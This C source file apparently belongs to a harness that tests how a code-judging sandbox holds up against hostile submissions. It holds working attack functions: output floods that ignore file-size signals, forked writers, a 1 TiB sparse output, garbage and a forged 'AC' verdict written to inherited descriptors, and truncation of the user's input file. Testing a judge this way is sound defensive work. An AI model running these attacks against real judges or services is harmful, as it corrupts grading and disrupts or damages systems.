/* Attacks 5, 16, 22: floods, the channels of the judge, and input that nobody reads. */
#include "attack.h"

static void flood(int fd, long mib) {
    static char block[1 << 16];
    memset(block, 'y', sizeof block);
    for (long i = 0; i < mib * 16; i++)
        if (write(fd, block, sizeof block) <= 0) break;
}

/* So many MiB on standard output, whatever the limit. */
static void flood_stdout(int argc, char **argv) {
    signal(SIGXFSZ, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    flood(1, number(argc, argv, 0, 64));
}

/* Standard error is kept in part and read on: the program must reach its end. */
static void flood_stderr(int argc, char **argv) { flood(2, number(argc, argv, 0, 16)); }

/* Several writers at once: whoever empties standard error until it is empty never looks at a clock again. */
static void flood_by_many(int argc, char **argv) {
    long ms = number(argc, argv, 0, PATIENCE_MS);
    static char block[1 << 16];
    for (int i = 0; i < 3 && fork() > 0; i++) continue;
    double end = seconds(CLOCK_MONOTONIC) + ms / 1e3;
    while (seconds(CLOCK_MONOTONIC) < end) (void)!write(2, block, sizeof block);
    say("BREACH wrote for %ld ms\n", ms);
}

/* A file of a terabyte that holds nothing, if standard output is a file. */
static void sparse_stdout(int argc, char **argv) {
    (void)argc, (void)argv;
    signal(SIGXFSZ, SIG_IGN);
    if (ftruncate(1, 1LL << 40) == 0) {
        say("BREACH standard output was made 1 TiB long\n");
        (void)!ftruncate(1, 0);
    }
    if (lseek(1, 1LL << 40, SEEK_SET) > 0) {
        if (write(1, "x", 1) == 1) (void)!write(2, "BREACH sparse\n", 14);
        (void)!ftruncate(1, 0), lseek(1, 0, SEEK_SET);
    }
}

/* Open descriptors beyond the three are doors to the judge: write to all of them. */
static void forge(int argc, char **argv) {
    (void)argc, (void)argv;
    static char garbage[64];
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            say("BREACH descriptor %d is open\n", fd);
            (void)!write(fd, garbage, sizeof garbage);
        }
    (void)!write(2, "exit=0 status=0 AC\n{\"code\":\"AC\"}\n", 33);
}

/* What an earlier run, or the judge, wrote to the same output or error file. */
static void read_outputs(int argc, char **argv) {
    (void)argc, (void)argv;
    static char block[256];
    for (int fd = 1; fd < 3; fd++)
        if (pread(fd, block, sizeof block, 0) > 0 || pread(fd, block, 1, 4096) > 0)
            (void)!write(fd == 1 ? 2 : 1, "BREACH old output\n", 18);
}

/* The input file belongs to the user: reopen it for writing, change its mode, write to it, cut it. Whether that did
 * anything to the user's file, and not to a copy, is looked at outside. */
static void spoil_input(int argc, char **argv) {
    (void)argc, (void)argv;
    const char *paths[] = {"/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"};
    say("TRY the input\n");
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int fd = open(paths[i], O_RDWR);
        (void)!write(fd, "spoiled", 7);
        close(fd);
    }
    (void)!fchmod(0, 0666), (void)!futimens(0, NULL), (void)!ftruncate(0, 0);
}

/* Ends without reading: a judge that feeds by pipe blocks here, or dies of SIGPIPE. */
static void ignore_input(int argc, char **argv) {
    (void)argc, (void)argv;
    close(0);
}

const struct entry outputs[] = {
    {"flood_stdout", flood_stdout}, {"flood_stderr", flood_stderr}, {"flood_by_many", flood_by_many}, {"sparse_stdout", sparse_stdout},
    {"forge", forge}, {"read_outputs", read_outputs}, {"spoil_input", spoil_input},
    {"ignore_input", ignore_input}, {NULL, NULL},
};
